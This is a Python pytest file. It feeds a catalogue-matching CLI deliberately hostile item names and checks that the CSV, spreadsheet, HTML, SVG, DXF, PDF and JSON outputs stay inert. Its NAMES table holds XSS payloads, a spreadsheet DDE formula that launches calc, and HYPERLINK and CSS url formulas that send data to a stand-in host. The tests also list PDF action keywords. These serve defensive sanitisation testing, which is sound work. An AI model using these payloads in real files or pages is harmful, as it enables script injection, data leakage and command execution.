"""Whatever names a catalogue brings, nothing in a written file runs, asks the network or is a formula."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import ezdxf
import lxml.html
import openpyxl
import pytest
from typer.testing import CliRunner

from matcher.cli import app
from tests import every_result

pytestmark = pytest.mark.slow

NAMES = {
    "tools": '=HYPERLINK("http://x.test/?"&A1,"see")',
    "wide": "<img src=x onerror=alert(1)>",
    "low": "@SUM(1+9)*cmd|' /C calc'!A0",
    "block": "</script><script>alert(1)</script>",
    "blocks": 'javascript:alert(1)//"><svg onload=alert(1)>',
    "bar": "]]> &x; %%EOF /JS (app.alert) <!-- \\U+0041",
    "tray": "+1-1 url(http://x.test/a.png) @import 'http://x.test/a.css'",
    "rated": "-2+3;url=http://x.test/</style><style>*{background:url(//x.test)}",
}
"""Names of the small catalogue's things, and what they are called here."""
ASKED = (
    "plan",
    "plan-no",
    "group",
    "sheet",
    "estimates",
    "tolerance",
    "fit",
    "compare",
    "planned",
    "pairs",
    "cut",
    "offer",
)
RUNS = "=+-@\t\r"
"""What a spreadsheet takes for the beginning of a formula (common practice, no source)."""


def catalogue(at: Path, names: dict[str, str]) -> Path:
    """The small catalogue with things called otherwise."""
    every_result.catalogue(at)
    for file in (*at.glob("*.csv"), at.with_name("readings.csv")):
        rows = list(csv.reader(io.StringIO(file.read_text(encoding="utf-8"))))
        with file.open("w", encoding="utf-8", newline="") as out:
            csv.writer(out).writerows([rows[0], *([names.get(cell, cell) for cell in row] for row in rows[1:])])
    return at


def answers(folder: Path, names: dict[str, str]) -> Path:
    """Everything asked of the catalogue, written into a folder."""
    source, made = catalogue(folder / "catalogue", names), folder / "made"
    made.mkdir()
    for name in ASKED:
        files = [made / f"{name}.{suffix}" for suffix in every_result.EVERY[name][1] if suffix != "parquet"]
        words = [names.get(word, word) for word in every_result.words_of(name, source, files)]
        ended = CliRunner().invoke(app, [*words[:2], *options(words[2:])])
        assert ended.exit_code in (0, 1, 3), ended.output
    return made


def options(words: list[str]) -> list[str]:
    """The same words with names, which may begin with a dash, behind all options."""
    names = [word for word in words if word in NAMES.values() and words[words.index(word) - 1] != "--group"]
    return [*(word for word in words if word not in names), "--", *names] if names else words


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> Path:
    return answers(tmp_path_factory.mktemp("hostile"), NAMES)


@pytest.fixture(scope="module")
def plain(tmp_path_factory) -> Path:
    return answers(tmp_path_factory.mktemp("plain"), {})


def each(folder: Path, suffix: str) -> list[Path]:
    found = sorted(folder.glob(f"*.{suffix}"))
    assert found, f"no {suffix} was written"
    return found


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_cell_of_a_csv_file_is_a_formula(made):
    told = ""
    for file in each(made, "csv"):
        for row in csv.reader(io.StringIO(file.read_text(encoding="utf-8"), newline="")):
            told += "".join(row)
            assert [cell for cell in row if cell[:1] in RUNS and cell and not is_number(cell)] == [], file.name
    assert NAMES["tools"] in told, "the names are there"


def test_no_workbook_holds_a_formula_a_macro_or_a_link(made):
    for file in each(made, "xlsx"):
        kinds = {cell.data_type for sheet in openpyxl.load_workbook(file) for row in sheet.iter_rows() for cell in row}
        assert "f" not in kinds, file.name
        with zipfile.ZipFile(file) as packed:
            assert [name for name in packed.namelist() if "vba" in name or "externalLink" in name] == []
            rels = [packed.read(name) for name in packed.namelist() if name.endswith(".rels")]
            assert not any(b"External" in rel or b"hyperlink" in rel for rel in rels)


def scripts(page: lxml.html.HtmlElement) -> list[str]:
    return [element.text or "" for element in page.iter("script") if element.get("type") != "application/json"]


def test_no_page_runs_or_asks_for_anything_that_a_name_brought(made, plain):
    for file in each(made, "html"):
        page, usual = (lxml.html.parse(str(folder / file.name)).getroot() for folder in (made, plain))
        assert scripts(page) == scripts(usual), file.name
        styles = "".join(element.text or "" for element in page.iter("style"))
        assert not any(word in styles for word in ("url(", "@import", "x.test", "alert"))
        for element in page.iter():
            if isinstance(element.tag, str):
                check_element(element, file.name)
        added = {str(tag.tag) for tag in page.iter()} - {str(tag.tag) for tag in usual.iter()}
        assert added <= {"wbr"}, "where a long name may be broken"


def check_element(element, file: str) -> None:
    """No handler, and no reference but to the file itself."""
    for name, value in element.attrib.items():
        bare = name.rpartition("}")[2].lower()
        assert not bare.startswith("on"), (file, name, value)
        if bare in ("href", "src", "action", "formaction", "data", "poster", "srcset", "background"):
            assert value.startswith(("#", "data:image/")), (file, name, value)
        if bare == "style":
            assert "url(" not in value, (file, value)


def test_no_drawing_runs_or_asks_for_anything(made, plain):
    for file in each(made, "svg"):
        root, usual = (ElementTree.parse(folder / file.name).getroot() for folder in (made, plain))
        assert {element.tag for element in root.iter()} == {element.tag for element in usual.iter()}, file.name
        for element in root.iter():
            check_element(element, file.name)


def test_a_cut_file_has_the_entities_that_it_has_with_plain_names(made, plain):
    for file in each(made, "dxf"):
        found, usual = (ezdxf.readfile(folder / file.name) for folder in (made, plain))
        kinds, wanted = ([one.dxftype() for one in drawing.modelspace()] for drawing in (found, usual))
        for kind in {*kinds, *wanted} - {"TEXT", "MTEXT", "LINE", "POLYLINE", "LWPOLYLINE"}:
            assert kinds.count(kind) == wanted.count(kind), (file.name, kind)
        assert {*kinds} == {*wanted}
        assert not [block.name for block in found.blocks if block.block.dxf.get("xref_path", "")]


def test_no_print_runs_or_links(made):
    for file in each(made, "pdf"):
        content = file.read_bytes()
        for word in (b"/JavaScript", b"/URI", b"/Launch", b"/EmbeddedFile", b"/SubmitForm", b"/RichMedia"):
            assert word not in content, (file.name, word)


def test_documents_hold_the_names_as_they_are(made):
    told = "".join(json.dumps(json.loads(file.read_text(encoding="utf-8"))) for file in each(made, "json"))
    for name in (NAMES["tools"], NAMES["wide"], NAMES["blocks"]):
        assert json.dumps(name)[1:-1] in told
